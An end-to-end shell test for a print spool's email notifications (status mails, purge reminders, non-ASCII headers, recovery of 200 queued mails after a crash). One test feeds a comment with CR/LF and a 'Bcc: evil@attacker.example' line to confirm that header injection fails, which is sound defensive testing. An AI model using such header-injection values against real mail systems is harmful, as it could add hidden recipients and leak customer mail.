# Notifications end to end, against a real SMTP server on loopback (aiosmtpd): the
# print workflow's status mails and its purge reminders (timers cut to seconds), the
# email workflow's failed send to the superuser, a relay that is down while 200 mails
# are queued and spoold is killed in the middle, and hostile text in headers.
. "$SRCDIR/tests/e2e/lib.sh"
. "$SRCDIR/tests/e2e/smtp.sh"
start_smtpd

# ---- the print workflow: a mail to the customer on every status change ----
C=$T/print
P=$C/spool
mkdir -p "$C"
sed -e 's/^timer = 60d closed/timer = 8s closed/' -e 's/^reminder = 10d /reminder = 6s /' \
    -e 's/^reminder = 5d /reminder = 4s /' "$SRCDIR/spool-layout/workflows/print.conf" >"$T/p.conf"
mail_conf "$T/p.conf" >"$T/print.conf"
rc 0 "init a print spool with a relay" $S -d "$P" init "$T/print.conf"
rc 0 "spoold -n accepts [mail]" $D -d "$P" -n
check "spoold starts" start_spoold "$P"
rc 0 "submit 1001 (paid)" $S -d "$P" submit "$EX/print/1001"
until_ "the customer gets a mail: Queued" 20 arrived "Your order 1001: Queued"
m=$(mails_for 1001 | head -1)
headers "$m" >"$T/h"
has "to the customer, with her name" "$T/h" "^To: \"?Jane Doe\"? <jane.doe@example.com>$"
has "from the shop" "$T/h" "^From: shop@print.example$"
has "with Reply-To" "$T/h" "^Reply-To: help@print.example$"
has "a subject with the order and its status" "$T/h" "^Subject: Your order 1001: Queued$"
has "a Date" "$T/h" "^Date: [A-Z][a-z][a-z], [0-9]+ [A-Z][a-z][a-z] 20[0-9][0-9] [0-9:]+ [+-][0-9]{4}$"
has "a Message-ID under the [mail] helo name" "$T/h" "^Message-ID: <[^ @>]+@mail.print.example>$"
has "MIME: plain text and HTML alternatives" "$T/h" '^Content-Type: multipart/alternative; boundary="=_spool-alternative"$'
mailcheck "read by Python's email package: Date, Message-ID, MIME, charsets, plain text then HTML, EHLO as [mail] helo" \
    "$m" --domain mail.print.example --subject "Your order 1001: Queued" --html --helo mail.print.example \
    --has "Jane Doe" --has "https://shop.print.example/orders/1001"
has "the envelope names the customer alone" "$m" "^X-Smtpd-Envelope: from=<shop@print.example> to=<jane.doe@example.com>[[:space:]]*$"
body "$m" >"$T/b"
has "the body says hello to her" "$T/b" "^Hello Jane Doe,$"
has "and links the order" "$T/b" "https://shop.print.example/orders/1001"
rc 0 "its history" $S -d "$P" history 1001
has "records the mail queued" "$T/out" "mail status to the customer <jane.doe@example.com> queued as outbox/new/1001\."
rc 0 "outbox ls" $S -d "$P" outbox ls
has "shows it sent" "$T/out" "^sent +1001 "

# the admin's comments are internal unless the admin says they are for the customer
rc 0 "the printer takes it (admin moves it to processing, an internal note)" $S -d "$P" mv 1001 processing -m "internal note: press 2 jams"
until_ "the customer hears: Processing" 20 arrived "Your order 1001: Processing"
m=$(first "Your order 1001: Processing")
mailcheck "the customer's mail does not carry the admin's comment" "$m" --html --lacks "internal note"
has "the comment is in the history" "$P/orders/1001/history" "processing	internal note: press 2 jams$"
rc 64 "--tell-customer needs -m" $S -d "$P" mv 1001 shipping --tell-customer

# shipping: the files are purged after 8s here, with reminders 6s and 4s before
rc 0 "shipping, with a comment for the customer" $S -d "$P" mv 1001 shipping -m "Your parcel leaves today." --tell-customer
until_ "two purge reminders, then the mail that it is closed" 40 arrived "Your order 1001: Order closed"
m=$(first "Your order 1001: Shipping")
mailcheck "with --tell-customer the comment is in both parts of the mail" "$m" --html --has "Your parcel leaves today."
m=$(first "Your order 1001: Order closed")
mailcheck "a comment told once is not told with the next move, nor the timer's line" "$m" --html \
    --lacks "Your parcel leaves today." --lacks "after 8s"
check "two reminders came before it" test "$(grep -l '^Subject: Your order 1001: the print files will be deleted soon' "$M"/*.eml | wc -l)" -eq 2
rc 0 "history 1001" $S -d "$P" history 1001
has "records the reminders" "$T/out" "reminder purge-reminder, 6s before the timer"
check "every mail arrived once" test "$(count_for 1001)" -eq 6

# a customer with a bad address never gets in: submit checks it (nothing is queued)
mkdir -p "$T/bad"
cp -R "$EX/print/1001/." "$T/bad/"
sed -i -e 's/id="1001"/id="1009"/' -e 's|<email>jane.doe@example.com</email>|<email>jane doe@example.com</email>|' "$T/bad/order.xml"
rc 65 "an order with a bad address is refused" $S -d "$P" submit "$T/bad"
has "with a clear error" "$T/err" "1009|email"
check "and nothing was queued for it" sh -c "! ls '$P/outbox/new' '$P/outbox/sent' | grep -q '^1009\.'"

# hostile text: CR/LF from an admin's comment cannot add a header
rc 0 "submit 1002" $S -d "$P" submit --id 1102 "$EX/print/1001"
until_ "1102 queued and mailed" 20 arrived "Your order 1102: Queued"
has "its history says the bundle's id" "$P/orders/1102/history" "submitted \(the bundle's id is 1001\)"
mailcheck "the customer's Queued mail does not quote the history" "$(first "Your order 1102: Queued")" --lacks "bundle's id" --lacks "submitted"
rc 0 "a comment for the customer with CR/LF and a Bcc line" $S -d "$P" mv 1102 processing --tell-customer -m "$(printf 'ok\r\nBcc: evil@attacker.example\r\n\r\nforged')"
until_ "the mail arrives" 20 arrived "Your order 1102: Processing"
m=$(first "Your order 1102: Processing")
headers "$m" >"$T/h"
check "no Bcc header" sh -c "! grep -qi '^bcc:' '$T/h'"
has "one recipient in the envelope" "$m" "^X-Smtpd-Envelope: from=<shop@print.example> to=<jane.doe@example.com>[[:space:]]*$"
check "every header line is a known one or a fold" sh -c "! grep -Ev '^(Date|From|To|Reply-To|Subject|Message-ID|MIME-Version|Content-Type|Content-Transfer-Encoding|Auto-Submitted): |^[ \t]' '$T/h' | grep -q ."
mailcheck "and the parsed mail is whole, with no line over 78, the comment told in its body" "$m" \
    --html --has "forged"
check "no line over 78 characters" sh -c "! awk 'length > 79' '$m' | grep -q ."

# ---- a printer fails an item: the admin's mail names the order and its customer ----
mkdir -p "$T/zoe"
cp -R "$EX/print/1001/." "$T/zoe/"
sed -i -e 's|<name>Jane Doe</name>|<name>Zoë Ünal-Ødegård</name>|' \
    -e 's|<line>12 Harbour Road</line>|<line>12 Hafenstraße</line>|' "$T/zoe/order.xml"
rc 0 "submit 1103 (a customer whose name is not ASCII)" $S -d "$P" submit --id 1103 "$T/zoe"
until_ "its jobs are in the hot folders" 60 test -f "$P/hot/press/1103-1-press/job.xml"
$PY - "$P/hot/press/1103-1-press/job.xml" <<'PYEOF'
import os, re, sys
path = sys.argv[1]
doc = open(path, 'rb').read().decode('utf-8')
doc = re.sub(r'<OrderStatusMessage>.*?</OrderStatusMessage>', '', doc, flags=re.S)
doc = re.sub(r'<OrderStatus>[0-9]*</OrderStatus>', '<OrderStatus>10</OrderStatus>'
             '<OrderStatusMessage>Paper jam in tray 2</OrderStatusMessage>', doc, count=1)
tmp = os.path.join(os.path.dirname(path), '.job.xml.printer')
open(tmp, 'wb').write(doc.encode('utf-8'))
os.rename(tmp, path)
PYEOF
until_ "the admin gets the printer-failure mail" 30 arrived "Printer failure: order 1103"
m=$(first "Printer failure: order 1103")
has "to the admin" "$m" "^X-Smtpd-Envelope: from=<shop@print.example> to=<admin@print.example>[[:space:]]*$"
mailcheck "it names the order, the item, the customer (name, address), the printer's message, the order's link" \
    "$m" --subject "Printer failure: order 1103, item 1" --no-html --domain mail.print.example \
    --has "order 1103, item 1" --has "Zoë Ünal-Ødegård <jane.doe@example.com>" \
    --has "12 Hafenstraße" --has "Bristol BS1 4RN" --has "Paper jam in tray 2" \
    --has "The order in the back office: https://office.print.example/orders/1103" \
    --lacks "(customer: )"
until_ "the customer hears it failed" 30 arrived "Your order 1103: PDF/Printing failed"
m=$(first "Your order 1103: PDF/Printing failed")
mailcheck "the customer's mail does not quote the printer" "$m" --html --lacks "Paper jam"
headers "$m" >"$T/h"
has "her name in To is RFC 2047 encoded" "$T/h" "^To: =\?UTF-8\?B\?[A-Za-z0-9+/=]+\?= <jane.doe@example.com>$"
$PY -c 'import email, email.policy, sys; m = email.message_from_binary_file(open(sys.argv[1], "rb"), policy=email.policy.default); a = m["To"].addresses[0]; sys.exit(0 if (a.display_name, a.addr_spec) == ("Zoë Ünal-Ødegård", "jane.doe@example.com") else 1)' "$m"
check "and decodes to her name exactly" test $? -eq 0

# a template of the spool's own, with a subject that is not ASCII and no HTML part
mkdir -p "$P/templates"
printf 'Subject: Ihre Bestellung {order_id}: {status} – Grüße\n\nHallo {customer},\n\nStatus: {status}.\n' >"$P/templates/status.txt"
rc 0 "submit 1104" $S -d "$P" submit --id 1104 "$T/zoe"
until_ "the mail from the spool's template arrives" 20 arrived "=?UTF-8?B?"
m=$(grep -l "^Subject: =?UTF-8?B?" "$M"/*.eml | head -1)
mailcheck "its subject decodes exactly; plain text alone, as the template has no HTML" "$m" \
    --subject "Ihre Bestellung 1104: Queued – Grüße" --no-html --has "Hallo Zoë Ünal-Ødegård,"
rm -r "$P/templates"
check "spoold stops" stop_spoold

# ---- the email workflow: a failed send tells the superuser ----
E=$T/email
mkdir -p "$E"
workflow_for_tests email "$SRCDIR/tests/e2e/handlers/email-send" "$T/e.conf"
mail_conf "$T/e.conf" >"$T/email.conf"
rc 0 "init an email spool with a relay" $S -d "$E/spool" init "$T/email.conf"
echo 2001 >"$E/fail"
check "spoold starts on it" start_spoold "$E/spool"
rc 0 "submit 2001" $S -d "$E/spool" submit "$EX/email/2001"
until_ "it schedules itself" 20 in_state "$E/spool" 2001 scheduled
rc 0 "process 2001" $S -d "$E/spool" process 2001
until_ "the send fails and the superuser gets a mail" 30 arrived "Send failed: order 2001"
m=$(first "Send failed: order 2001")
has "to the superuser" "$m" "^X-Smtpd-Envelope: from=<shop@print.example> to=<root@print.example>[[:space:]]*$"
body "$m" >"$T/b"
has "with the OrderID" "$T/b" "^OrderID: +2001$"
has "the OrderProductID" "$T/b" "^OrderProductID: +[A-Za-z0-9._-]+$"
has "the producer's error" "$T/b" "uProduce: job 4711 failed: font Helvetica Neue missing"
has "and the link to the order" "$T/b" "https://shop.print.example/orders/2001"
check "spoold stops" stop_spoold

# ---- the relay is down: 200 mails wait, spoold is killed, nothing is lost or sent twice ----
stop_smtpd
check "spoold starts again on the print spool" start_spoold "$P"
i=1
while [ $i -le 200 ]; do
	$S -d "$P" submit --id "out$i" "$EX/print/1001" >/dev/null 2>>"$T/err" || echo "submit out$i failed" >>"$T/err"
	[ $i -eq 100 ] && kill_spoold && start_spoold "$P" >/dev/null
	i=$((i + 1))
done
check "200 orders submitted" test "$(ls "$P/state/queued" | grep -c '^out')" -eq 200
until_ "200 mails wait in outbox/new" 60 sh -c "[ \$(ls '$P/outbox/new' | grep -c '^out') -eq 200 ]"
rc 0 "outbox ls shows them with their due times" $S -d "$P" outbox ls
check "none is sent yet" test "$(grep -c '^sent +out' "$T/out")" -eq 0
kill -KILL "$SPOOLD_PID" 2>/dev/null
wait "$SPOOLD_PID" 2>/dev/null
SPOOLD_PID=
start_smtpd
check "spoold starts after the SIGKILL" start_spoold "$P"
until_ "all 200 arrive" 120 sh -c "[ \$(grep -l '^Subject: Your order out[0-9]*: Queued' '$M'/*.eml | wc -l) -ge 200 ]"
check "each exactly once" sh -c "[ \$(grep -h '^Subject: Your order out[0-9]*: Queued' '$M'/*.eml | sort -u | wc -l) -eq 200 ] && [ \$(grep -l '^Subject: Your order out[0-9]*: Queued' '$M'/*.eml | wc -l) -eq 200 ]"
until_ "and the outbox is empty" 30 sh -c "! ls '$P/outbox/new' | grep -q ."
rc 0 "outbox purge" $S -d "$P" outbox purge
has "removes the sent ones" "$T/out" "^[0-9]+ removed$"
check "spoold stops" stop_spoold
rc 0 "the spool is clean" $S -d "$P" check
done_testing
